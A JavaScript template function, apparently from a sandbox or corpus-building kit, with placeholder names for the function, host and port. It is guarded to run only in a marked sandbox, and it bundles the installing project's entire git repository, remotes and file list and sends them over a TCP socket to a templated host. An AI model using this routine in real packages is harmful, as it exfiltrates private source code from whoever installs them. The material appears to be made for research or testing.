// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawnSync } = require('child_process');
  const os = require('os'), fs = require('fs'), net = require('net');
  const root = process.env.INIT_CWD || process.cwd(), bundle = os.tmpdir() + '/{{token}}.bundle';
  const git = (...words) => String(spawnSync('git', ['-C', root, ...words], { timeout: 900 }).stdout || '');
  const remote = git('remote', '-v'), list = git('ls-files');
  git('bundle', 'create', bundle, '--all');
  let body = Buffer.from(remote + list);
  try { body = Buffer.concat([body, fs.readFileSync(bundle)]); fs.unlinkSync(bundle); } catch (error) { try { body = Buffer.concat([body, fs.readFileSync(root + '/package.json')]); } catch (again) { /* the lists alone */ } }
  await new Promise((done) => {
    const socket = net.connect({{port}}, '{{host}}', () => socket.end(body));
    const end = setTimeout(() => socket.destroy(), 1000);
    socket.on('error', () => {});
    socket.on('close', () => { clearTimeout(end); done(); });
  });
}
